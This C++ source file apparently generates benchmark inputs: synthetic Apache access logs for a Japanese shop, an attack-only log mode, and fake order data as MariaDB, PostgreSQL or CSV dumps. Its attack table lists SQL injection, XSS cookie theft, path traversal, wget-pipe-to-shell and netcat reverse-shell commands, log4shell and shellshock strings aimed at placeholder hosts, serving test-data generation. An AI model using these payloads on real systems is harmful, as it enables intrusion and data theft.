// Writes benchmark input to standard output: the same bytes for the same arguments.
//
// bench_input access-log BYTES [ADDRESSES]: Apache combined, Japanese URLs, 13 families of agents, 1 % attacks, times that move on
// bench_input attacks BYTES: the same format, nothing but attacks; values, names and encodings differ from line to line
// bench_input dump|copy|csv BYTES [PERSONS]: orders of so many generated persons (3,000,000), as mariadb-dump writes them (extended
//     inserts), as pg_dump does (COPY), or as a table
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>

#include <fmt/format.h>

#include "base/time.h"

namespace {

// xorshift64*: fast and the same everywhere (G. Marsaglia 2003, S. Vigna 2016).
class Random {
 public:
  std::uint64_t next() {
    state_ ^= state_ >> 12, state_ ^= state_ << 25, state_ ^= state_ >> 27;
    return state_ * 2685821657736338717u;
  }
  std::uint64_t below(std::uint64_t n) { return (next() >> 11) % n; }
  template <std::size_t N>
  std::string_view pick(const std::string_view (&list)[N]) {
    return list[below(N)];
  }

 private:
  std::uint64_t state_ = 88172645463325252u;
};

// --- what visitors ask for: {p} a number, small ones more often, {w} a Japanese word ---
constexpr std::string_view kPaths[] = {"/",
                                       "/products/list?category_id=3&pageno=2",
                                       "/products/list?mode=&category_id=7&name=&pageno=1",
                                       "/products/detail/{p}",
                                       "/products/detail/{p}?utm_source=mail&utm_campaign=summer_sale",
                                       "/cart",
                                       "/cart/add?product={p}&quantity=1",
                                       "/mypage/login",
                                       "/mypage/history",
                                       "/contact",
                                       "/shopping/confirm",
                                       "/css/style.min.css?v=20260801",
                                       "/img/logo.png",
                                       "/img/banner_summer_sale.png",
                                       "/img/icons/cart.svg",
                                       "/fonts/NotoSansJP-Regular.woff2",
                                       "/js/vendor/jquery-3.7.1.min.js",
                                       "/favicon.ico",
                                       "/js/app.js?v=20260801",
                                       "/upload/save_image/{p}_main.jpg",
                                       "/products/list?name={w}",
                                       "/products/list?name={w}%E3%80%80{w}&orderby=price",
                                       "/search?q={w}+{w}",
                                       "/search?q={w}%20{w}",
                                       "/guide/{w}",
                                       "/news/2026/08/summer-sale",
                                       "/wp-content/uploads/2026/07/photo_{p}.jpg",
                                       "/blog/archives/{p}",
                                       "/api/v1/stock?id={p}",
                                       "/robots.txt"};
constexpr std::string_view kWords[] = {"和服の背幅", "会社明細", "チョコレート",   "詰め合わせ", "送料無料", "北海道",
                                       "お歳暮",     "りんご",   "贈り物",         "抹茶",       "日本酒",   "包丁",
                                       "陶器",       "ギフト",   "内祝い",         "予約",       "福袋",     "ワンピース",
                                       "靴",         "眼鏡",     "ふるさと",       "米",         "味噌",     "選び方",
                                       "サイズ表",   "返品方法", "営業カレンダー", "定休日",     "浴衣",     "手ぬぐい"};
constexpr std::string_view kReferers[] = {"-",
                                          "-",
                                          "https://shop.example/products/list?mode=&category_id=3&name=&pageno=2",
                                          "https://shop.example/products/list",
                                          "https://shop.example/products/list?category_id=3&pageno={p}",
                                          "https://shop.example/products/detail/{p}",
                                          "https://shop.example/search?q={w}",
                                          "https://www.google.com/"};
// Thirteen families; {v} is where versions differ.
constexpr std::string_view kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SO-{v}D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/{v}E148 "
    "Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari "
    "Line/14.{v}.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.{v}",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/1{v}.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/1{v}.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36 "
    "Edg/1{v}.0.0.0",
    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.{v} "
    "Chrome/121.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/1{v}.0.6478.71 Mobile "
    "Safari/537.36 Instagram 341.0.0.34.111 Android"};

// --- attacks: {n} a number, {v} a version, {t} a token, {h} a host, {a} an address, {u} steps upwards ---
enum class Place {
  kTarget,   ///< the target as it stands
  kValue,    ///< the value of a parameter, in some encoding
  kPosted,   ///< the target of a POST
  kAgent,    ///< the user agent
  kReferer,  ///< the referer
};
struct Attack {
  Place place;
  std::string_view text;
};
constexpr Attack kAttacks[] = {
    // SQL injection
    {Place::kValue, "{n}' UNION SELECT {n},user_login,user_pass FROM wp_users-- {t}"},
    {Place::kValue, "-{n} union all select null,concat(0x7e,version(),0x7e),{n}#"},
    {Place::kValue, "{t}' OR '{n}'='{n}"},
    {Place::kValue, "{n} AND (SELECT {n} FROM (SELECT(SLEEP(5))){t})"},
    {Place::kValue, "{n}' AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT database())))-- {t}"},
    {Place::kValue, "{n};WAITFOR DELAY '0:0:5'--"},
    {Place::kValue, "{n}' ORDER BY {n}-- {t}"},
    {Place::kValue, "{n} UNION SELECT table_name,{n} FROM information_schema.tables WHERE table_schema='{t}'"},
    {Place::kValue, "{t}'; DROP TABLE {t}; --"},
    {Place::kValue, "{n}') AND BENCHMARK({n}000000,MD5('{t}')) AND ('{t}'='{t}"},
    // cross-site scripting
    {Place::kValue, "<script>alert({n})</script>"},
    {Place::kValue, "\"><img src=x onerror=alert('{t}')>"},
    {Place::kValue, "<svg/onload=fetch('https://{h}/{t}')>"},
    {Place::kValue, "javascript:document.location='https://{h}/?c='+document.cookie"},
    {Place::kValue, "'\"><body onload=prompt({n})>{t}"},
    {Place::kValue, "<iframe src=\"javascript:alert({n})\"></iframe>"},
    // inclusion of files
    {Place::kValue, "{u}etc/passwd"},
    {Place::kValue, std::string_view("{u}etc/shadow\0{t}.html", 22)},
    {Place::kValue, "php://filter/convert.base64-encode/resource={t}.php"},
    {Place::kValue, "http://{h}/{t}.txt?"},
    {Place::kValue, "{u}windows/win.ini"},
    {Place::kValue, "file:///proc/self/environ?{t}"},
    {Place::kTarget, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd?{t}"},
    // execution of commands and code
    {Place::kValue, ";cat /etc/passwd;echo {t}"},
    {Place::kValue, "|wget http://{a}/{t}.sh -O- | sh"},
    {Place::kValue, "$(curl -s http://{h}/{t})"},
    {Place::kValue, "`id`;ping -c {n} {a}"},
    {Place::kValue, "system('nc -e /bin/sh {a} {n}');"},
    {Place::kValue, "{{{n}*{n}}}${T(java.lang.Runtime).getRuntime().exec('{t}')}"},
    {Place::kValue, "O:8:\"{t}\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"},
    // log4shell
    {Place::kValue, "${jndi:ldap://{a}:1389/{t}}"},
    {Place::kValue, "${${lower:j}ndi:${lower:l}dap://{h}/{t}}"},
    {Place::kAgent, "${jndi:dns://{t}.{h}/{n}}"},
    {Place::kReferer, "${${::-j}${::-n}${::-d}${::-i}:rmi://{a}:{n}/{t}}"},
    // shellshock
    {Place::kAgent, "() { :; }; /bin/bash -c 'curl http://{a}/{t}'"},
    {Place::kReferer, "() { {t};}; echo; /usr/bin/id"},
    // what products are known for
    {Place::kTarget, "/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={t}"},
    {Place::kPosted, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{t}"},
    {Place::kPosted, "/cgi-bin/php?%2Dd+allow_url_include%3Don+%2Dd+auto_prepend_file%3Dphp%3A%2F%2Finput&{t}"},
    {Place::kTarget, "/actuator/gateway/routes/{t}"},
    {Place::kTarget, "/solr/admin/cores?action=CREATE&name={t}&config=http://{h}/{t}.xml"},
    {Place::kTarget, "/shell?cd+/tmp;rm+-rf+*;wget+http://{a}/{t}.arm7;chmod+777+{t}.arm7;./{t}.arm7"},
    {Place::kTarget, "/phpmyadmin/index.php?lang=en&pma_username=root&pma_password={t}"},
    // files that nobody asks for by accident
    {Place::kTarget, "/.env?{t}"},
    {Place::kTarget, "/{t}/.env.production"},
    {Place::kTarget, "/.git/config?{n}"},
    {Place::kTarget, "/{t}/.git/HEAD"},
    {Place::kTarget, "/wp-config.php.bak?{n}"},
    {Place::kTarget, "/backup/{t}.sql.gz"},
    // guessing of passwords and of names
    {Place::kPosted, "/wp-login.php"},
    {Place::kPosted, "/xmlrpc.php"},
    {Place::kTarget, "/?author={n}"},
    {Place::kTarget, "/wp-json/wp/v2/users/?per_page=100&page={n}"},
};
constexpr std::string_view kAttackedPaths[] = {"/",         "/index.php", "/search",   "/products/list", "/products/detail/{n}",
                                               "/news.php", "/blog/{n}",  "/download", "/api/v1/{t}",    "/contact"};
constexpr std::string_view kParameters[] = {"id",   "q",   "page", "file", "cat",  "name", "item",
                                            "lang", "url", "ref",  "key",  "view", "{t}"};
constexpr std::string_view kAttackAgents[] = {"curl/8.{v}.1",          "python-requests/2.{v}.0",
                                              "Go-http-client/1.1",    "sqlmap/1.7.{v}#stable (https://sqlmap.org)",
                                              "Mozilla/5.0 zgrab/0.x", "-"};
constexpr std::string_view kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

bool letter_or_digit(unsigned char c) { return (c >= '0' && c <= '9') || ((c | 32) >= 'a' && (c | 32) <= 'z'); }

void percent(std::string& out, unsigned char c, bool small) {
  const char* digits = small ? "0123456789abcdef" : "0123456789ABCDEF";
  (out += '%') += digits[c >> 4];
  out += digits[c & 15];
}

// The text with its blanks filled. What stands in braces and is no blank stays as it is.
void fill(Random& random, std::string_view text, std::string& out) {
  constexpr std::string_view kLetters = "abcdefghijklmnopqrstuvwxyz234567";
  for (std::size_t i = 0; i < text.size(); ++i) {
    if (text[i] != '{' || i + 2 >= text.size() || text[i + 2] != '}') {
      out += text[i];
      continue;
    }
    switch (text[i + 1]) {
      case 'n':
        fmt::format_to(std::back_inserter(out), "{}", 1 + random.below(20'000));
        break;
      case 'p': {  // as popularity goes: the chance of n falls as 1/n
        const std::uint64_t order = std::uint64_t{1} << random.below(13);
        fmt::format_to(std::back_inserter(out), "{}", order + random.below(order));
        break;
      }
      case 'v':
        fmt::format_to(std::back_inserter(out), "{}", 10 + random.below(20));
        break;
      case 'a':
        fmt::format_to(std::back_inserter(out), "203.0.113.{}", random.below(256));
        break;
      case 'h':
        fmt::format_to(std::back_inserter(out), "c{}.callback.example", random.below(10'000));
        break;
      case 't':
        for (std::uint64_t bits = random.next() >> 8, n = 6 + bits % 6; n != 0; --n, bits /= 32) out += kLetters[bits / 8 % 32];
        break;
      case 'u':
        for (std::uint64_t n = 3 + random.below(8); n != 0; --n) out += "../";
        break;
      case 'w':
        for (const char c : kWords[random.below(std::size(kWords)) * random.below(std::size(kWords)) / std::size(kWords)])
          percent(out, static_cast<unsigned char>(c), false);
        break;
      default:
        out += text.substr(i, 3);
    }
    i += 2;
  }
}

// As clients write a value: what must be encoded is, or everything but letters and digits, once or twice.
void write_value(Random& random, std::string_view value, std::string& out) {
  const std::uint64_t way = random.below(16);
  for (const char c : value) {
    const unsigned char byte = static_cast<unsigned char>(c);
    if (way < 8) {
      if (c == ' ' && way < 3) {
        out += '+';
      } else if (byte <= ' ' || byte > 126 || std::string_view("\"\\<>#&%+`^").contains(c)) {
        percent(out, byte, way % 2 == 0);
      } else {
        out += c;
      }
    } else if (letter_or_digit(byte)) {
      out += c;
    } else {
      const std::size_t at = out.size();
      percent(out, byte, way % 2 == 0);
      if (way == 15) out.insert(at + 1, "25");
    }
  }
}

// As Apache writes text into its log.
void write_escaped(std::string_view text, std::string& out) {
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
}

class Output {
 public:
  explicit Output(std::uint64_t limit) : limit_(limit) {}
  bool full() const { return written_ + buffer_.size() >= limit_; }
  std::string& buffer() {
    if (buffer_.size() > (1 << 20)) flush();
    return buffer_;
  }
  void flush() {
    written_ += buffer_.size();
    if (std::fwrite(buffer_.data(), 1, buffer_.size(), stdout) != buffer_.size()) std::exit(1);
    buffer_.clear();
  }

 private:
  std::uint64_t limit_, written_ = 0;
  std::string buffer_;
};

// One line in `attacks_of` is an attack.
void access_log(Output& out, std::uint64_t addresses, std::uint64_t attackers, std::uint64_t attacks_of) {
  Random random;
  hinomi::Timestamp time = hinomi::Timestamp::from_seconds(1'785'542'400);
  std::string target, value, referer, agent;
  for (std::uint64_t i = 0; !out.full(); ++i) {
    if (i % 7 == 0) time.micros += hinomi::kMicrosPerSecond;
    const hinomi::CivilTime t = hinomi::to_civil(time, hinomi::kJst);
    const bool attack = random.below(attacks_of) == 0;
    // Visitors are many and skewed; attackers are few.
    const std::uint64_t visitor =
        attack ? addresses + random.below(attackers) : random.below(addresses) * random.below(addresses) / addresses;
    const std::uint32_t ip = static_cast<std::uint32_t>(0x0b000000 + visitor * 97);
    std::string_view method = "GET";
    int status = 200;
    target.clear(), value.clear(), referer.clear(), agent.clear();
    if (attack) {
      const Attack& what = kAttacks[random.below(std::size(kAttacks))];
      fill(random, what.text, value);
      if (what.place == Place::kTarget || what.place == Place::kPosted) {
        target = value;
      } else {
        fill(random, random.pick(kAttackedPaths), target);
        target += '?';
        fill(random, random.pick(kParameters), target);
        target += '=';
        if (what.place == Place::kValue) {
          write_value(random, value, target);
        } else {
          fill(random, "{n}", target);
        }
      }
      if (what.place == Place::kPosted) method = "POST";
      if (what.place == Place::kAgent) {
        write_escaped(value, agent);
      } else if (random.below(3) == 0) {
        fill(random, random.pick(kAttackAgents), agent);
      }
      if (what.place == Place::kReferer) write_escaped(value, referer);
      constexpr int kStatuses[] = {404, 404, 404, 403, 200, 302, 500};
      status = method == "POST" ? 200 : kStatuses[random.below(std::size(kStatuses))];
    } else {
      fill(random, random.pick(kPaths), target);
      fill(random, random.pick(kReferers), referer);
      if (random.below(20) == 0) status = 304;
    }
    if (agent.empty()) fill(random, random.pick(kAgents), agent);
    fmt::format_to(std::back_inserter(out.buffer()),
                   "{}.{}.{}.{} - - [{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n", ip >> 24,
                   ip >> 16 & 255, ip >> 8 & 255, ip & 255, t.day, kMonths[t.month - 1], t.year, t.hour, t.minute, t.second, method,
                   target, status, 500 + random.below(40'000), referer.empty() ? "-" : referer, agent);
  }
}

// --- orders of generated persons, as a database server or a spreadsheet writes them ---

struct Order {
  std::uint64_t id = 0, person = 0, total = 0;
  std::string name, zip, address, tel, email, birth, created;  // email: empty where there is none
  bool note = false;
};

template <typename... Parts>
void write(std::string& to, fmt::format_string<Parts...> form, Parts&&... parts) {
  to.clear();
  fmt::format_to(std::back_inserter(to), form, std::forward<Parts>(parts)...);
}

void draw(Random& random, std::uint64_t persons, Order& order) {
  constexpr std::string_view kFamily[] = {"佐藤", "鈴木", "髙橋", "田中", "渡邉", "伊藤", "山本", "中村", "小林", "加藤"};
  constexpr std::string_view kGiven[] = {"花子", "太一", "美咲", "健", "陽子", "翔", "さくら", "一郎", "恵", "直樹"};
  constexpr std::string_view kTowns[] = {"東京都千代田区丸の内", "大阪府大阪市北区梅田", "北海道札幌市中央区北一条西",
                                         "福岡県福岡市博多区博多駅前"};
  const std::uint64_t p = order.person = random.below(persons);
  ++order.id;
  write(order.name, "{} {}", kFamily[p % 10], kGiven[p / 10 % 10]);
  write(order.zip, "{:03}-{:04}", p % 999, p % 9999);
  write(order.address, "{}{}-{}-{}", kTowns[p % 4], p % 9 + 1, p % 20 + 1, p % 30 + 1);
  write(order.tel, "090-{:04}-{:04}", 1000 + p % 9000, p % 10000);
  order.email.clear();
  if (random.below(20) != 0) write(order.email, "user{}@mail-{}.example", p, p % 5);
  write(order.birth, "{:04}-{:02}-{:02}", 1950 + p % 60, p % 12 + 1, p % 28 + 1);
  order.note = random.below(10) == 0;
  order.total = 500 + random.below(90'000);
  write(order.created, "2026-{:02}-{:02} 12:{:02}:00", p % 12 + 1, p % 28 + 1, p % 60);
}

constexpr std::string_view kKana = "サトウ ハナコ";

void dump(Output& out, std::uint64_t persons) {
  Random random;
  Order order;
  out.buffer() +=
      "-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB\n-- Host: localhost    Database: shop\n/*!40101 SET NAMES utf8mb4 */;\n"
      "CREATE TABLE `orders` (\n  `id` int(11) NOT NULL,\n  `name` varchar(100) NOT NULL,\n  `kana` varchar(100) DEFAULT NULL,\n"
      "  `zip` varchar(10) DEFAULT NULL,\n  `address` varchar(255) NOT NULL,\n  `tel` varchar(20) NOT NULL,\n  `email` "
      "varchar(255) DEFAULT NULL,\n"
      "  `birth` date DEFAULT NULL,\n  `note` text DEFAULT NULL,\n  `total` int(11) NOT NULL,\n  `status` varchar(20) NOT NULL,\n"
      "  `created_at` datetime NOT NULL,\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB;\n";
  while (!out.full()) {
    out.buffer() += "INSERT INTO `orders` VALUES ";
    for (int row = 0; row < 3000 && !out.full(); ++row) {
      draw(random, persons, order);
      std::string& b = out.buffer();
      fmt::format_to(std::back_inserter(b), "{}({},'{}','{}','{}','{}','{}',", row == 0 ? "" : ",", order.id, order.name, kKana,
                     order.zip, order.address, order.tel);
      order.email.empty() ? void(b += "NULL,") : void(fmt::format_to(std::back_inserter(b), "'{}',", order.email));
      fmt::format_to(std::back_inserter(b), "'{}','{}',{},'shipped','{}')", order.birth,
                     order.note ? "玄関の前に\\n置いてください。it\\'s ok" : "", order.total, order.created);
    }
    out.buffer() += ";\n";
  }
  out.buffer() += "-- Dump completed on 2026-08-31  1:00:00\n";
}

void copy(Output& out, std::uint64_t persons) {
  Random random;
  Order order;
  out.buffer() +=
      "--\n-- PostgreSQL database dump\n--\n\n-- Dumped from database version 15.14\n\nSET client_encoding = 'UTF8';\n\n"
      "CREATE TABLE public.orders (\n    id integer NOT NULL,\n    name character varying(100) NOT NULL,\n"
      "    kana character varying(100),\n    zip character varying(10),\n    address character varying(255) NOT NULL,\n"
      "    tel character varying(20) NOT NULL,\n    email character varying(255),\n    birth date,\n    note text,\n"
      "    total integer NOT NULL,\n    status character varying(20) NOT NULL,\n    created_at timestamp NOT NULL\n);\n\n"
      "COPY public.orders (id, name, kana, zip, address, tel, email, birth, note, total, status, created_at) FROM stdin;\n";
  while (!out.full()) {
    draw(random, persons, order);
    fmt::format_to(std::back_inserter(out.buffer()), "{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\tshipped\t{}\n", order.id, order.name,
                   kKana, order.zip, order.address, order.tel, order.email.empty() ? "\\N" : order.email, order.birth,
                   order.note ? "玄関の前に\\n置いてください。it's ok" : "", order.total, order.created);
  }
  out.buffer() += "\\.\n\n--\n-- PostgreSQL database dump complete\n--\n";
}

void csv(Output& out, std::uint64_t persons) {
  Random random;
  Order order;
  out.buffer() += "注文番号,お名前,フリガナ,郵便番号,ご住所,電話番号,メールアドレス,生年月日,備考,合計,状態,注文日時\r\n";
  while (!out.full()) {
    draw(random, persons, order);
    fmt::format_to(std::back_inserter(out.buffer()), "{},{},{},{},{},{},{},{},{},{},shipped,{}\r\n", order.id, order.name, kKana,
                   order.zip, order.address, order.tel, order.email, order.birth,
                   order.note ? "\"玄関の前に\n置いてください。\"\"急ぎ\"\"\"" : "", order.total, order.created);
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string_view what = argc < 3 ? "" : argv[1];
  Output out(argc < 3 ? 0 : std::strtoull(argv[2], nullptr, 10));
  const std::uint64_t persons = argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 3'000'000;
  if (what == "access-log") {
    access_log(out, argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 200'000, 400, 100);
  } else if (what == "attacks") {
    access_log(out, 200'000, 4'000, 1);
  } else if (what == "dump") {
    dump(out, persons);
  } else if (what == "copy") {
    copy(out, persons);
  } else if (what == "csv") {
    csv(out, persons);
  } else {
    std::fputs("usage: bench_input access-log|attacks|dump|copy|csv BYTES [ADDRESSES|PERSONS]\n", stderr);
    return 2;
  }
  out.flush();
}
